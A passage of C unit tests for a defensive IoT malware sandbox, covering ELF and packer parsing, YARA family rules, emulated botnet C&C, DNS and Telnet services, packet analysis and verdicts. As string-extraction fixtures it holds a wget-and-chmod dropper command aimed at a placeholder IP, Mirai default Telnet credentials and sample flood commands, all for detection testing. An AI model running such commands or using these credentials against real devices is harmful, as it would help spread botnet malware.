/* Unit tests of the sandbox's parts that need no namespaces: ELF headers, packer signatures,
 * strings, hashes, our YARA rules, the fake services fed one byte at a time, packet analysis,
 * the verdict's decisions, the seccomp filter, and the store and report queries. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "box/internal.h"

/* ------------------------------------------------------------------ helpers */

static void put16(uint8_t *p, uint16_t v, bool be)
{
	p[be ? 0 : 1] = (uint8_t)(v >> 8);
	p[be ? 1 : 0] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v, bool be)
{
	for (int i = 0; i < 4; i++)
		p[be ? i : 3 - i] = (uint8_t)(v >> (24 - 8 * i));
}

/* A 32-bit ELF: header, `nph` program headers of the given types right after it, room after. */
static size_t make_elf32(uint8_t *b, size_t cap, bool be, uint16_t machine, const uint32_t *types,
			 int nph)
{
	memset(b, 0, cap);
	memcpy(b,
	       "\x7f"
	       "ELF",
	       4);
	b[4] = 1;
	b[5] = be ? 2 : 1;
	b[6] = 1;
	put16(b + 16, 2, be);
	put16(b + 18, machine, be);
	put32(b + 20, 1, be);
	put32(b + 24, 0x400100, be); /* entry */
	put32(b + 28, 52, be);       /* phoff */
	put16(b + 40, 52, be);
	put16(b + 42, 32, be); /* phentsize */
	put16(b + 44, (uint16_t)nph, be);
	for (int i = 0; i < nph; i++)
		put32(b + 52 + 32 * i, types[i], be);
	return 52 + 32 * (size_t)nph;
}

/* ------------------------------------------------------------------ ELF */

static void test_elf_headers(void **state)
{
	uint8_t b[512];
	uint32_t types[] = {1, 1};
	make_elf32(b, sizeof(b), true, 8, types, 2);
	struct box_elf e;
	assert_int_equal(box_elf_parse(b, sizeof(b), &e), 0);
	assert_int_equal(e.bits, 32);
	assert_true(e.big_endian);
	assert_string_equal(e.arch, "mips");
	assert_int_equal(e.entry, 0x400100);
	assert_int_equal(e.loads, 2);
	assert_true(e.is_static);
	assert_true(e.stripped);
	assert_string_equal(box_qemu_for(&e), "mips");

	uint32_t dyn[] = {3, 1, 2};
	size_t end = make_elf32(b, sizeof(b), false, 40, dyn, 3);
	/* PT_INTERP pointing at a path after the headers. */
	put32(b + 52 + 4, (uint32_t)end, false);
	put32(b + 52 + 16, 20, false);
	memcpy(b + end, "/lib/ld-linux.so.3", 19);
	assert_int_equal(box_elf_parse(b, sizeof(b), &e), 0);
	assert_string_equal(e.arch, "arm");
	assert_false(e.is_static);
	assert_string_equal(e.interp, "/lib/ld-linux.so.3");
	json_t *j = box_elf_json(&e);
	assert_string_equal(json_string_value(json_object_get(j, "endian")), "little");
	assert_string_equal(json_string_value(json_object_get(j, "machine")), "ARM");
	json_decref(j);

	/* SPARC32PLUS needs its own emulator; an unknown CPU has none. */
	make_elf32(b, sizeof(b), true, 18, types, 1);
	assert_int_equal(box_elf_parse(b, sizeof(b), &e), 0);
	assert_string_equal(box_qemu_for(&e), "sparc32plus");
	make_elf32(b, sizeof(b), true, 0x1234, types, 1);
	assert_int_equal(box_elf_parse(b, sizeof(b), &e), 0);
	assert_null(box_qemu_for(&e));
}

static void test_elf_hostile(void **state)
{
	uint8_t b[128];
	struct box_elf e;
	assert_int_equal(box_elf_parse((const uint8_t *)"#!/bin/sh\n", 10, &e), -EINVAL);
	uint32_t types[] = {1};
	make_elf32(b, sizeof(b), true, 8, types, 1);
	/* Tables past the end of the file: parsed as far as they go, flagged truncated. */
	put16(b + 44, 60000, true);
	put32(b + 32, 0xfffffff0u, true); /* shoff */
	put16(b + 46, 40, true);
	put16(b + 48, 60000, true);
	assert_int_equal(box_elf_parse(b, sizeof(b), &e), 0);
	assert_true(e.truncated);
	/* Every prefix of a header parses or is refused, never read past. */
	for (size_t n = 0; n < sizeof(b); n++) {
		uint8_t *copy = malloc(n ? n : 1);
		memcpy(copy, b, n);
		box_elf_parse(copy, n, &e);
		free(copy);
	}
}

/* ------------------------------------------------------------------ packer */

static size_t upx_like(uint8_t *b, size_t cap, const char *magic, uint32_t filesize,
		       uint32_t blocksize, bool trailer)
{
	uint32_t types[] = {1, 1};
	size_t off = make_elf32(b, cap, true, 8, types, 2);
	put16(b + 46, 40, true); /* no section headers: shnum 0 */
	uint8_t *li = b + off;
	memcpy(li + 4, magic, 4);
	put16(li + 8, 0x1000, true);
	li[10] = 13;  /* version */
	li[11] = 137; /* format */
	put32(li + 16, filesize, true);
	put32(li + 20, blocksize, true);
	for (size_t i = off + 24; i < cap; i++)
		b[i] = (uint8_t)(i * 131 + 7);
	if (trailer)
		memcpy(b + cap - 36, "UPX!", 4);
	return cap;
}

static void test_packer(void **state)
{
	uint8_t b[2048];
	struct box_elf e;
	struct box_packer pk;
	size_t n = upx_like(b, sizeof(b), "UPX!", 70000, 70000, true);
	box_elf_parse(b, n, &e);
	box_packer_detect(b, n, &e, &pk);
	assert_true(pk.packed);
	assert_string_equal(pk.name, "upx");
	assert_string_equal(pk.variant, "standard");
	assert_int_equal(pk.p_filesize, 70000);

	n = upx_like(b, sizeof(b), "YTS\x99", 70000, 70000, false);
	box_elf_parse(b, n, &e);
	box_packer_detect(b, n, &e, &pk);
	assert_true(pk.packed);
	assert_string_equal(pk.variant, "modified-magic");
	assert_string_equal(pk.magic, "59545399");

	n = upx_like(b, sizeof(b), "UPX!", 0, 0, true);
	box_elf_parse(b, n, &e);
	box_packer_detect(b, n, &e, &pk);
	assert_string_equal(pk.variant, "zeroed-sizes");

	/* A plain ELF with text after its headers is not packed. */
	uint32_t types[] = {1};
	size_t off = make_elf32(b, sizeof(b), true, 8, types, 1);
	memset(b + off, 'a', sizeof(b) - off);
	box_elf_parse(b, sizeof(b), &e);
	box_packer_detect(b, sizeof(b), &e, &pk);
	assert_false(pk.packed);
	assert_true(box_entropy(b, sizeof(b)) < 2.0);
}

/* ------------------------------------------------------------------ strings, hashes */

static bool has(const json_t *arr, const char *s)
{
	size_t i;
	json_t *x;
	json_array_foreach(arr, i, x)
		if (strcmp(json_string_value(x), s) == 0)
			return true;
	return false;
}

static void test_strings(void **state)
{
	static const char text[] =
		"\0\0cd /tmp; wget http://198.51.100.7/bins/mips -O m; chmod 777 m\0"
		"cnc.evil-example.com\0.data.rel.ro\0glibc.malloc.top_pad\0"
		"203.0.113.5:23\0version 1.2.3.4.5\0xc3511\0vizxv\0admin\0"
		"fcts.towc_nsteps == 1\0/bin/busybox ECCHI\0";
	json_t *s = box_strings((const uint8_t *)text, sizeof(text));
	assert_true(has(json_object_get(s, "urls"), "http://198.51.100.7/bins/mips"));
	assert_true(has(json_object_get(s, "domains"), "cnc.evil-example.com"));
	assert_false(has(json_object_get(s, "domains"), "data.rel.ro"));
	assert_false(has(json_object_get(s, "domains"), "glibc.malloc.top"));
	assert_true(has(json_object_get(s, "ips"), "203.0.113.5:23"));
	assert_false(has(json_object_get(s, "ips"), "1.2.3.4"));
	assert_true(has(json_object_get(s, "credentials"), "xc3511"));
	assert_true(has(json_object_get(s, "commands"), "/bin/busybox ECCHI"));
	assert_false(has(json_object_get(s, "commands"), "fcts.towc_nsteps == 1"));
	json_decref(s);

	/* Mirai's table: strings XORed with 0x22, zero-terminated before encoding. */
	uint8_t enc[64] = {0};
	const char *hidden = "/proc/net/tcp";
	for (size_t i = 0; hidden[i]; i++)
		enc[4 + i] = (uint8_t)(hidden[i] ^ 0x22);
	enc[4 + strlen(hidden)] = 0x22;
	s = box_strings(enc, sizeof(enc));
	assert_true(has(json_object_get(s, "xor22"), "/proc/net/tcp"));
	json_decref(s);
}

static void test_hashes(void **state)
{
	uint8_t b[4096];
	uint32_t x = 12345;
	for (size_t i = 0; i < sizeof(b); i++) {
		x = x * 1103515245 + 12345;
		b[i] = (uint8_t)(x >> 16);
	}
	char t1[80], t2[80], ss[160];
	box_tlsh(b, sizeof(b), t1);
	assert_int_equal(strlen(t1), 72);
	assert_memory_equal(t1, "T1", 2);
	box_tlsh(b, sizeof(b), t2);
	assert_string_equal(t1, t2);
	box_tlsh(b, 100, t2);
	assert_string_equal(t2, ""); /* too short for TLSH */
	box_ssdeep(b, sizeof(b), ss);
	assert_non_null(strchr(ss, ':'));
}

/* ------------------------------------------------------------------ YARA */

static json_t *scan_with_rules(const uint8_t *p, size_t n)
{
	struct box_yara *y;
	assert_int_equal(box_yara_open(MITSU_SOURCE_DIR "/rules/yara", &y), 0);
	json_t *m = box_yara_scan(y, p, n);
	box_yara_close(y);
	return m;
}

static const char *family_of(const uint8_t *p, size_t n)
{
	static char fam[32];
	json_t *m = scan_with_rules(p, n);
	const char *f = json_string_value(json_object_get(json_array_get(m, 0), "family"));
	snprintf(fam, sizeof(fam), "%s", f ? f : "none");
	json_decref(m);
	return fam;
}

/* An ELF-looking buffer holding the given strings (and XORed copies when key is set). */
static size_t with_strings(uint8_t *b, size_t cap, const char *const *strs, size_t n, uint8_t key)
{
	memset(b, 0, cap);
	memcpy(b,
	       "\x7f"
	       "ELF",
	       4);
	size_t off = 64;
	for (size_t i = 0; i < n; i++) {
		size_t l = strlen(strs[i]);
		for (size_t k = 0; k < l; k++)
			b[off + k] = (uint8_t)(strs[i][k] ^ key);
		off += l + 1;
	}
	return off;
}

static void test_yara_families(void **state)
{
	uint8_t b[4096];
	static const char *const mirai[] = {"/proc/net/tcp", "/bin/busybox MIRAI", "ncorrect",
					    "TSource Engine Query"};
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), mirai, 4, 0x22)), "mirai");
	/* The same words in plain text are not Mirai's table. */
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), mirai, 4, 0)), "none");
	static const char *const gafgyt[] = {"PONG!", "GETLOCALIP", "KILLATTK", "LOLNOGTFO",
					     "My IP: %s"};
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), gafgyt, 5, 0)), "gafgyt");
	static const char *const tsunami[] = {
		"NICK %s", "USER %s", "PRIVMSG %s :", "TSUNAMI", "PAN", "GETSPOOFS"};
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), tsunami, 6, 0)), "tsunami");
	static const char *const hajime[] = {"d1:ad2:id20:", "find_node", "/.i"};
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), hajime, 3, 0)), "hajime");
	static const char *const mozi[] = {"[ss]", "[hp]", "[cpu]", "dht.transmissionbt.com"};
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), mozi, 4, 0)), "mozi");
	static const char *const xorddos[] = {"BB2FA36AAA9541F0"};
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), xorddos, 1, 0)), "xorddos");
	static const char *const benign[] = {"hello from a benign program", "/etc/hostname",
					     "checksum %u"};
	assert_string_equal(family_of(b, with_strings(b, sizeof(b), benign, 3, 0)), "none");
	/* Not an ELF: the family rules stay silent even on the right words. */
	with_strings(b, sizeof(b), gafgyt, 5, 0);
	b[0] = 'X';
	assert_string_equal(family_of(b, sizeof(b)), "none");
}

/* ------------------------------------------------------------------ DNS */

static size_t dns_query(uint8_t *q, const char *name, uint16_t type)
{
	memset(q, 0, 12);
	q[0] = 0x12, q[1] = 0x34, q[2] = 0x01, q[5] = 1;
	size_t o = 12;
	const char *p = name;
	while (*p) {
		size_t l = strcspn(p, ".");
		q[o++] = (uint8_t)l;
		memcpy(q + o, p, l);
		o += l;
		p += l + (p[l] == '.');
	}
	q[o++] = 0;
	q[o++] = (uint8_t)(type >> 8), q[o++] = (uint8_t)type;
	q[o++] = 0, q[o++] = 1;
	return o;
}

static void test_dns(void **state)
{
	struct box_dnsmap *m = calloc(1, sizeof(*m));
	uint8_t q[300], a[600];
	char name[256];
	uint16_t qtype;
	uint32_t ip;
	size_t n = dns_query(q, "CNC.Example.COM", 1);
	size_t r = box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip);
	assert_int_equal(r, n + 16);
	assert_string_equal(name, "cnc.example.com");
	assert_int_equal(ip, BOX_DNS_POOL + 1);
	assert_int_equal(a[0], 0x12);
	assert_true(a[2] & 0x80);
	assert_int_equal(a[7], 1); /* one answer */
	assert_memory_equal(a + r - 4, "\xcb\x00\x71\x01", 4);
	/* The same name, the same address; a new one, the next. */
	box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip);
	assert_int_equal(ip, BOX_DNS_POOL + 1);
	n = dns_query(q, "other.example.net", 1);
	box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip);
	assert_int_equal(ip, BOX_DNS_POOL + 2);
	assert_string_equal(box_dnsmap_name(m, BOX_DNS_POOL + 2), "other.example.net");
	assert_null(box_dnsmap_name(m, BOX_DNS_POOL + 3));
	/* AAAA: NOERROR without answers. */
	n = dns_query(q, "cnc.example.com", 28);
	r = box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip);
	assert_int_equal(r, n);
	assert_int_equal(a[7], 0);
	/* Hostile: a response, a compression pointer, a label past the end, every truncation. */
	n = dns_query(q, "x.example.com", 1);
	q[2] |= 0x80;
	assert_int_equal(box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip), 0);
	q[2] &= 0x7f;
	q[12] = 0xc0;
	assert_int_equal(box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip), 0);
	n = dns_query(q, "x.example.com", 1);
	q[12] = 60;
	assert_int_equal(box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip), 0);
	n = dns_query(q, "x.example.com", 1);
	for (size_t k = 0; k < n; k++)
		assert_int_equal(box_dns_reply(m, q, k, a, sizeof(a), name, &qtype, &ip), 0);
	/* More names than addresses: the last address is shared, never a wrong name. */
	for (int i = 0; i < BOX_DNS_NAMES + 10; i++) {
		char nm[32];
		snprintf(nm, sizeof(nm), "n%d.example.org", i);
		n = dns_query(q, nm, 1);
		box_dns_reply(m, q, n, a, sizeof(a), name, &qtype, &ip);
		assert_true(ip > BOX_DNS_POOL && ip <= BOX_DNS_POOL + BOX_DNS_NAMES);
	}
	assert_true(m->overflowed);
	assert_null(box_dnsmap_name(m, BOX_DNS_POOL + BOX_DNS_NAMES));
	free(m);
}

/* ------------------------------------------------------------------ the fake services */

struct chat {
	struct box_conn c;
	struct buf out;
	json_t *log;
	uint64_t now;
	int closed;
};

static void chat_open(struct chat *ch, uint32_t dst, uint16_t port)
{
	memset(ch, 0, sizeof(*ch));
	box_conn_init(&ch->c, BOX_SAMPLE_IP, 40000, dst, port, NULL, 1000);
	buf_init(&ch->out, 1 << 20);
	ch->log = json_array();
	ch->now = 1000;
}

static void chat_close(struct chat *ch)
{
	box_conn_close(&ch->c, ch->log);
	box_conn_free(&ch->c);
	buf_free(&ch->out);
	json_decref(ch->log);
}

/* Feeds bytes one at a time, as the worst split of the input. */
static void feed(struct chat *ch, const void *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (box_conn_input(&ch->c, (const uint8_t *)p + i, 1, ch->now, &ch->out, ch->log) ==
		    1)
			ch->closed++;
}

static void advance(struct chat *ch, uint64_t ms)
{
	uint64_t end = ch->now + ms;
	while (ch->now < end) {
		ch->now += 10;
		box_conn_tick(&ch->c, ch->now, &ch->out, ch->log);
	}
}

static int count_type(json_t *log, const char *type)
{
	int n = 0;
	size_t i;
	json_t *r;
	json_array_foreach(log, i, r)
		n += strcmp(json_string_value(json_object_get(r, "type")), type) == 0;
	return n;
}

static void test_mirai_cnc(void **state)
{
	struct chat ch;
	chat_open(&ch, BOX_IP(203, 0, 113, 1), 23);
	static const uint8_t hello[] = {0, 0, 0, 1, 4, 't', 'e', 's', 't'};
	feed(&ch, hello, sizeof(hello));
	assert_int_equal(ch.c.svc, SVC_MIRAI);
	assert_int_equal(ch.out.len, 0); /* no Telnet prompt for a bot that speaks first */
	advance(&ch, BOX_CMD_GAP_MS + 50);
	/* One attack: 18 bytes in all, 5 s, vector 0 (UDP), 1 target 198.51.100.10/32, dport 80. */
	static const uint8_t attack[] = {0,  18,  0,  0,  0, 5, 0, 1,   198,
					 51, 100, 10, 32, 1, 7, 2, '8', '0'};
	assert_int_equal(ch.out.len, sizeof(attack));
	assert_memory_equal(ch.out.data, attack, sizeof(attack));
	buf_reset(&ch.out);
	feed(&ch, "\0\0", 2); /* ping, echoed */
	assert_int_equal(ch.out.len, 2);
	assert_int_equal(count_type(ch.log, "cnc_checkin"), 1);
	assert_int_equal(count_type(ch.log, "cnc_command"), 1);
	chat_close(&ch);
}

static void test_gafgyt_silent(void **state)
{
	struct chat ch;
	chat_open(&ch, BOX_IP(198, 51, 100, 66), 666);
	advance(&ch, BOX_SILENT_CNC_MS - 100);
	assert_int_equal(ch.c.svc, SVC_UNKNOWN);
	advance(&ch, 100 + 3 * BOX_CMD_GAP_MS + 50);
	assert_int_equal(ch.c.svc, SVC_GAFGYT);
	buf_append(&ch.out, "", 1);
	assert_string_equal((const char *)ch.out.data,
			    "PING\n!* SCANNER ON\n!* UDP 198.51.100.10 80 5 32 0 10\n");
	buf_reset(&ch.out);
	feed(&ch, "PONG!\r\n", 7);
	assert_int_equal(count_type(ch.log, "cnc_reply"), 1);
	chat_close(&ch);

	/* A silent connection to a LAN device is never taken for a C&C. */
	chat_open(&ch, BOX_IP(192, 168, 1, 2), 80);
	advance(&ch, 5000);
	assert_int_equal(ch.c.svc, SVC_UNKNOWN);
	assert_int_equal(ch.out.len, 0);
	chat_close(&ch);
}

static void test_irc_cnc(void **state)
{
	struct chat ch;
	chat_open(&ch, BOX_IP(203, 0, 113, 2), 6667);
	static const char reg[] = "NICK bot1\r\nUSER bot1 0 * :bot1\r\n";
	feed(&ch, reg, strlen(reg));
	assert_int_equal(ch.c.svc, SVC_IRC);
	buf_append(&ch.out, "", 1);
	assert_non_null(strstr((const char *)ch.out.data, " 001 bot1 "));
	assert_non_null(strstr((const char *)ch.out.data, " 376 bot1 "));
	buf_reset(&ch.out);
	feed(&ch, "PING :x1\r\nJOIN #chan key\r\n", 26);
	buf_append(&ch.out, "", 1);
	assert_non_null(strstr((const char *)ch.out.data, "PONG :x1\r\n"));
	assert_non_null(strstr((const char *)ch.out.data, "JOIN :#chan\r\n"));
	buf_reset(&ch.out);
	advance(&ch, 3 * BOX_CMD_GAP_MS);
	buf_append(&ch.out, "", 1);
	assert_non_null(strstr((const char *)ch.out.data, "PRIVMSG #chan :!* SCANNER ON\r\n"));
	assert_non_null(
		strstr((const char *)ch.out.data, "PRIVMSG #chan :!* UDP 198.51.100.10 80 5\r\n"));
	chat_close(&ch);
}

static void test_telnet(void **state)
{
	struct chat ch;
	chat_open(&ch, BOX_IP(192, 168, 1, 2), 23);
	advance(&ch, BOX_TELNET_PROMPT_MS + 20);
	buf_append(&ch.out, "", 1);
	assert_string_equal((const char *)ch.out.data, "\r\nlogin: ");
	buf_reset(&ch.out);
	/* Options negotiation mixed into the data, split at every byte. */
	static const uint8_t in[] = {
		255,  251,  31,  'r', 'o', 'o', 't', 255, 250,  31,   0,   80,  0,    24,  255, 240,
		'\r', '\n', 'x', 'c', '3', '5', '1', '1', '\r', '\n', '/', 'b', 'i',  'n', '/', 'b',
		'u',  's',  'y', 'b', 'o', 'x', ' ', 'M', 'I',  'R',  'A', 'I', '\r', '\n'};
	feed(&ch, in, sizeof(in));
	assert_int_equal(ch.c.svc, SVC_TELNET);
	buf_append(&ch.out, "", 1);
	assert_non_null(strstr((const char *)ch.out.data, "Password: "));
	assert_non_null(strstr((const char *)ch.out.data, "MIRAI: applet not found"));
	json_t *login = NULL;
	size_t i;
	json_t *r;
	json_array_foreach(ch.log, i, r)
		if (strcmp(json_string_value(json_object_get(r, "type")), "telnet_login") == 0)
			login = r;
	assert_non_null(login);
	assert_string_equal(json_string_value(json_object_get(login, "username")), "root");
	assert_string_equal(json_string_value(json_object_get(login, "password")), "xc3511");
	chat_close(&ch);
}

static void test_http_upnp(void **state)
{
	struct chat ch;
	chat_open(&ch, BOX_GATEWAY_IP, 52869);
	static const char req[] =
		"POST /picsdesc.xml HTTP/1.1\r\nHost: 192.168.1.1:52869\r\nContent-Length: 10\r\n"
		"SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
		"0123456789";
	feed(&ch, req, strlen(req));
	assert_int_equal(ch.c.svc, SVC_HTTP);
	assert_int_equal(ch.closed, 1);
	buf_append(&ch.out, "", 1);
	assert_true(lib_str_prefix((const char *)ch.out.data, "HTTP/1.1 200 OK\r\n"));
	assert_int_equal(count_type(ch.log, "upnp"), 1);
	assert_int_equal(count_type(ch.log, "http"), 1);
	chat_close(&ch);

	/* Headers that never end are cut at the bound and the connection closed. */
	chat_open(&ch, BOX_GATEWAY_IP, 80);
	feed(&ch, "GET /", 5);
	char junk[512];
	memset(junk, 'a', sizeof(junk));
	for (int k = 0; k < 20 && !ch.closed; k++)
		box_conn_input(&ch.c, (const uint8_t *)junk, sizeof(junk), ch.now, &ch.out,
			       ch.log) == 1
			? ch.closed++
			: 0;
	assert_int_equal(ch.closed, 1);
	chat_close(&ch);

	/* Headers just past the bound, ending inside the buffer's slack, in one read. */
	chat_open(&ch, BOX_GATEWAY_IP, 80);
	struct buf big;
	buf_init(&big, 0);
	buf_append_str(&big, "GET /");
	for (int k = 0; k < BOX_FAKE_LINE + 4; k++)
		buf_append_str(&big, "a");
	buf_append_str(&big, "\r\n\r\n");
	assert_int_equal(box_conn_input(&ch.c, big.data, big.len, ch.now, &ch.out, ch.log), 1);
	buf_free(&big);
	chat_close(&ch);
}

/* ------------------------------------------------------------------ packets */

static size_t frame(uint8_t *f, const uint8_t src_mac[6], uint16_t type)
{
	memset(f, 0, 128);
	memcpy(f, box_gateway_mac, 6);
	memcpy(f + 6, src_mac, 6);
	f[12] = (uint8_t)(type >> 8), f[13] = (uint8_t)type;
	return 14;
}

static size_t ipv4(uint8_t *f, uint8_t proto, uint32_t dst, uint16_t dport, uint32_t seq,
		   uint8_t flags)
{
	size_t o = frame(f, box_sample_mac, 0x0800);
	uint8_t *ip = f + o;
	ip[0] = 0x45;
	size_t l4 = proto == 6 ? 20 : 8;
	put16(ip + 2, (uint16_t)(20 + l4), true);
	ip[8] = 64;
	ip[9] = proto;
	put32(ip + 12, BOX_SAMPLE_IP, true);
	put32(ip + 16, dst, true);
	put16(ip + 20 + 2, dport, true);
	if (proto == 6) {
		put32(ip + 24, seq, true);
		ip[20 + 13] = flags;
	}
	return o + 20 + l4;
}

static void test_packets(void **state)
{
	struct box_pkt *a = box_pkt_new(box_gateway_mac);
	uint8_t f[128];
	/* An ARP sweep of ten LAN addresses, the gateway among them (answered, not counted). */
	for (uint32_t h = 1; h <= 10; h++) {
		size_t o = frame(f, box_sample_mac, 0x0806);
		put16(f + o + 6, 1, true);
		put32(f + o + 14, BOX_SAMPLE_IP, true);
		put32(f + o + 24, BOX_LAN_NET | h, true);
		box_pkt_feed(a, f, o + 28, h);
	}
	/* Mirai-style SYNs: seq = destination, to 20 internet hosts on 23. */
	for (uint32_t i = 0; i < 20; i++) {
		uint32_t dst = BOX_IP(45, 1, (uint8_t)i, 7);
		box_pkt_feed(a, f, ipv4(f, 6, dst, 23, dst, 0x02), 100 + i * 1000);
	}
	/* A UDP flood of one host, and the fake internet's own frames (ignored). */
	for (int i = 0; i < 300; i++)
		box_pkt_feed(a, f, ipv4(f, 17, BOX_ATTACK_TARGET, 80, 0, 0), 50000 + (uint64_t)i);
	size_t o = frame(f, box_gateway_mac, 0x0800);
	box_pkt_feed(a, f, o + 40, 1);
	/* Truncated frames of every length. */
	size_t full = ipv4(f, 6, BOX_IP(45, 9, 9, 9), 80, 1, 0x02);
	for (size_t k = 0; k < full; k++)
		box_pkt_feed(a, f, k, 2);
	json_t *s = box_pkt_summary(a);
	assert_int_equal(json_integer_value(json_object_get(s, "arp_unanswered")),
			 6); /* .1-.4 answer, .5-.10 not */
	assert_int_equal(json_integer_value(json_object_get(s, "syn_seq_dst")), 20);
	json_t *p0 = json_array_get(json_object_get(s, "ports_tcp"), 0);
	assert_int_equal(json_integer_value(json_object_get(p0, "port")), 23);
	assert_int_equal(json_integer_value(json_object_get(p0, "targets")), 20);
	json_t *t0 = json_array_get(json_object_get(s, "top"), 0);
	assert_string_equal(json_string_value(json_object_get(t0, "ip")), "198.51.100.10");
	assert_int_equal(json_integer_value(json_object_get(t0, "udp")), 300);
	json_decref(s);
	box_pkt_free(a);
}

/* ------------------------------------------------------------------ verdicts */

static json_t *stat_stub(const char *yara_family)
{
	json_t *y = json_array();
	if (yara_family)
		json_array_append_new(y, json_pack("{s:s,s:s,s:i}", "rule", "R", "family",
						   yara_family, "strings", 3));
	return json_pack("{s:s,s:s,s:o,s:{s:b}}", "sha256", "00", "arch", "mips", "yara", y,
			 "packer", "packed", false);
}

static void test_verdict_decisions(void **state)
{
	/* A LAN scanner: trace connect()s to 250 LAN hosts on 80 (ARP failed, no packets), the
	 * gateway on 52869; a silent C&C; SSDP. */
	json_t *dyn = json_pack(
		"{s:b,s:f,s:{s:[{s:i,s:i}],s:I,s:I,s:[i,i],s:I,s:I,s:f,s:I,s:b,s:[],s:[],s:[]},"
		"s:{s:{s:I,s:I,s:[],s:[],s:I,s:I,s:[],s:I,s:[]}},"
		"s:[{s:s,s:s,s:i,s:s,s:s},{s:s,s:s,s:i,s:s,s:s},{s:s,s:s}]}",
		"ran", true, "run_seconds", 10.0, "trace", "ports", "port", 80, "targets", 250,
		"targets", (json_int_t)251, "lan_targets", (json_int_t)250, "gateway_ports", 80,
		52869, "rfc1918_targets", (json_int_t)0, "raw_sockets", (json_int_t)0, "dest_rate",
		300.0, "kills_total", (json_int_t)0, "bound_telnet", false, "files_written",
		"file_ops", "shell_commands", "fakenet_summary", "packets", "arp_unanswered",
		(json_int_t)246, "syn", (json_int_t)4, "ports_tcp", "ports_udp", "targets",
		(json_int_t)5, "lan_targets", (json_int_t)4, "gateway_ports", "syn_seq_dst",
		(json_int_t)0, "top", "fakenet", "type", "cnc", "dst", "198.51.100.66:666", "port",
		666, "protocol", "gafgyt", "checkin", "silent", "type", "cnc", "dst", "45.1.1.1:80",
		"port", 80, "protocol", "gafgyt", "checkin", "silent", "type", "upnp", "action",
		"M-SEARCH");
	assert_non_null(dyn);
	json_t *stat = stat_stub(NULL);
	json_t *v = box_verdict(stat, dyn);
	json_t *scan = json_object_get(v, "scan"), *lan = json_object_get(v, "lan_attack");
	assert_true(json_is_true(json_object_get(scan, "detected")));
	assert_int_equal(json_integer_value(json_array_get(json_object_get(scan, "ports"), 0)), 80);
	assert_false(json_is_true(json_object_get(scan, "mirai_fingerprint")));
	assert_true(json_is_true(json_object_get(lan, "detected")));
	assert_true(json_array_size(json_object_get(lan, "evidence")) >= 3);
	/* The silent connection to a scanned port is a scan target, not a second C&C. */
	assert_int_equal(json_array_size(json_object_get(v, "cnc")), 1);
	assert_string_equal(json_string_value(json_object_get(
				    json_array_get(json_object_get(v, "cnc"), 0), "host")),
			    "198.51.100.66");
	assert_string_equal(json_string_value(json_object_get(v, "family")), "gafgyt");
	assert_false(json_is_true(json_object_get(json_object_get(v, "ddos"), "detected")));
	json_decref(v);
	/* YARA's family wins over behaviour; both are in the basis. */
	json_decref(stat);
	stat = stat_stub("tsunami");
	v = box_verdict(stat, dyn);
	assert_string_equal(json_string_value(json_object_get(v, "family")), "tsunami");
	assert_int_equal(json_array_size(json_object_get(v, "family_basis")), 2);
	json_decref(v);
	json_decref(dyn);

	/* Nothing at all: no detection, family unknown. */
	json_decref(stat);
	stat = stat_stub(NULL);
	v = box_verdict(stat, NULL);
	assert_string_equal(json_string_value(json_object_get(v, "family")), "unknown");
	assert_false(json_is_true(json_object_get(json_object_get(v, "lan_attack"), "detected")));
	assert_string_equal(json_string_value(json_object_get(v, "verdict")), "static only");
	json_decref(v);
	json_decref(stat);
}

/* ------------------------------------------------------------------ seccomp */

static void test_seccomp_filter(void **state)
{
	if (!box_trace_supported())
		skip();
	pid_t pid = fork();
	if (pid == 0) {
		if (box_seccomp_install())
			_exit(10);
		/* Refused outright. */
		if (mount("none", "/mnt", "tmpfs", 0, NULL) == 0 || errno != EPERM)
			_exit(11);
		if (unshare(CLONE_NEWNET) == 0 || errno != EPERM)
			_exit(12);
		if (syscall(SYS_clone3, NULL, 0) != -1 || errno != ENOSYS)
			_exit(13);
		/* Traced: without a tracer the kernel answers ENOSYS, which shows the stop is
		 * there. */
		if (socket(AF_INET, SOCK_DGRAM, 0) != -1 || errno != ENOSYS)
			_exit(14);
		/* Untouched. */
		if (getpid() <= 0)
			_exit(15);
		_exit(0);
	}
	int st;
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st));
	assert_int_equal(WEXITSTATUS(st), 0);
}

/* ------------------------------------------------------------------ store and report */

static void test_store_report(void **state)
{
	char dir[] = "/tmp/mitsu-box-store-XXXXXX";
	assert_non_null(mkdtemp(dir));
	/* The writer stores, a reader (as the reports and the dashboard) reads. */
	struct core_store w, st;
	assert_int_equal(core_store_open(&w, dir, false), 0);
	assert_int_equal(core_store_open(&st, dir, true), 0);
	json_t *out;
	assert_int_equal(box_report_testbed(&st, &out), -ENOENT);
	assert_int_equal(box_store_schema(&w), 0);
	static const struct {
		const char *sha, *arch;
		bool lan, ran;
	} rows[] = {
		{"a1", "mips", true, true},    {"a2", "mips", false, true},
		{"a3", "mips", false, true},   {"b1", "mipsel", true, true},
		{"b2", "mipsel", false, true}, {"c1", "arm", true, false},
		{"a2", "mips", true, true}, /* a later verdict of a2 replaces the first */
	};
	for (size_t i = 0; i < LIB_ARRAY_LEN(rows); i++) {
		json_t *v = json_pack(
			"{s:s,s:s,s:s,s:s,s:f,s:{s:b},s:{s:b},s:{s:b},s:[{s:s,s:i}],s:[s]}",
